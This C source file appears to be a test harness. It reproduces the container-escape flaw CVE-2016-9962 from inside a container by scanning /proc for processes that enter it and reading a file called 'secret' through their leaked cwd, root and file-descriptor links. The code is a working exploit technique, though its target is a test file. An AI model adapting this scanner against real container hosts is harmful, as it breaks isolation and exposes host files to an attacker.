/* SPDX-License-Identifier: Apache-2.0 */
/*
 * The attacker of CVE-2016-9962, inside the container: looks through /proc for processes that come in, and reads
 * what they have open, where they are, and which root they have. Prints what it read of a file named "secret".
 * scan [SECONDS]
 */
#include <ctype.h>
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static const char *const below[] = {"secret", "mnt/outside/secret", "../outside/secret"};

static void read_secret(const char *directory)
{
    int place = open(directory, O_PATH | O_CLOEXEC);

    for (size_t i = 0; place >= 0 && i < sizeof(below) / sizeof(*below); i++) {
        int fd = openat(place, below[i], O_RDONLY | O_CLOEXEC);
        char text[64];
        ssize_t count;

        if (fd < 0)
            continue;
        count = read(fd, text, sizeof(text));
        if (count > 0) {
            printf("%s/%s: %.*s\n", directory, below[i], (int)count, text);
            fflush(stdout);
        }
        close(fd);
    }
    if (place >= 0)
        close(place);
}

static void look_at(const char *pid)
{
    static const char *const links[] = {"cwd",  "root", "fd/3", "fd/4", "fd/5",
                                        "fd/6", "fd/7", "fd/8", "fd/9", "fd/10"};
    char path[320];

    for (size_t i = 0; i < sizeof(links) / sizeof(*links); i++) {
        snprintf(path, sizeof(path), "/proc/%s/%s", pid, links[i]);
        read_secret(path);
    }
}

int main(int count, char **arguments)
{
    time_t until = time(NULL) + (count > 1 ? atoi(arguments[1]) : 600);
    char self[32];

    snprintf(self, sizeof(self), "%d", (int)getpid());
    while (time(NULL) < until) {
        DIR *directory = opendir("/proc");
        const struct dirent *entry;

        while (directory && (entry = readdir(directory)))
            if (isdigit((unsigned char)*entry->d_name) && strcmp(entry->d_name, self) != 0 &&
                strcmp(entry->d_name, "1") != 0)
                look_at(entry->d_name);
        if (directory)
            closedir(directory);
    }
    return 0;
}
